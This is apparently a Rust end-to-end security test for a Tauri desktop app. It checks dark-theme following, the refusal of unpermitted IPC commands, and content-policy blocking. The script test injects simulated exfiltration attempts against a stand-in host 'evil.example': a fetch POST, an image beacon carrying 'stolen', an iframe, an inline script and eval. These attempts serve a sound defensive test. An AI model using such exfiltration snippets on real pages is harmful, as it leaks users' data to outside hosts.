//! What a page that was taken over could do: nothing but what it is for. In a desktop that prefers dark, while at it.

use serde_json::json;

use crate::application::Application;
use crate::stage::Stage;

pub(super) async fn walk() {
    let stage = Stage::new().await;
    let window = stage.open_with(&[("GTK_THEME", "Adwaita:dark")]).await;
    window.arrives("welcome").await;
    follows_the_desktop(&window).await;
    commands(&window).await;
    scripts(&window).await;
    window.close().await;
}

async fn follows_the_desktop(window: &Application) {
    let ground = "return getComputedStyle(document.documentElement).backgroundColor";
    window.theme("dark").await;
    let dark = window.run(ground).await;
    window.theme("light").await;
    let light = window.run(ground).await;
    window.theme("system").await;
    assert_ne!(dark, light, "the themes differ");
    assert_eq!(
        window.run(ground).await,
        dark,
        "a page that follows a dark desktop is dark"
    );
}

async fn commands(window: &Application) {
    for (command, why) in [
        (
            "plugin:window|title",
            "no command of Tauri's own is open to the page",
        ),
        (
            "plugin:event|listen",
            "no command of Tauri's own is open to the page",
        ),
        ("read_vault", "what no permission names does not exist"),
    ] {
        let answer = window
            .run_until(&format!(
                "window.__TAURI__.core.invoke('{command}', {{}})
                   .then((given) => done(['given', given]), (error) => done(['refused', String(error)]))"
            ))
            .await;
        assert_eq!(answer[0], "refused", "{why}: {answer}");
        let words = answer[1].as_str().unwrap_or_default();
        assert!(
            words.contains("not allowed"),
            "it is the fence that refuses {command}: {words}"
        );
    }
    let answer = window
        .run_until(
            "window.__TAURI__.core.invoke('open_page', { page: 'https://evil.example' })
               .then(() => done('opened'), (problem) => done(problem.code))",
        )
        .await;
    assert_eq!(
        answer, "out-of-order",
        "the page names pages, never addresses"
    );
}

async fn scripts(window: &Application) {
    let tried = window
        .run_until(
            "const refused = [];
             document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
             const script = document.createElement('script');
             script.textContent = 'window.inlineRan = true';
             document.head.append(script);
             const frame = document.createElement('iframe');
             frame.src = 'https://evil.example/';
             document.body.append(frame);
             const picture = new Image();
             picture.src = 'https://evil.example/?stolen';
             let evalRan = true;
             try { eval('1'); } catch { evalRan = false; }
             fetch('https://evil.example/', { method: 'POST', body: 'stolen' })
               .then(() => 'sent', () => 'not sent')
               .then((sent) => setTimeout(() => done({
                 sent, evalRan, inlineRan: window.inlineRan === true, refused: [...new Set(refused)].sort(),
               })));",
        )
        .await;
    assert_eq!(
        tried,
        json!({
            "sent": "not sent",
            "evalRan": false,
            "inlineRan": false,
            "refused": ["connect-src", "frame-src", "img-src", "script-src", "script-src-elem"],
        }),
        "the content policy refuses what was not shipped, and says so"
    );
}
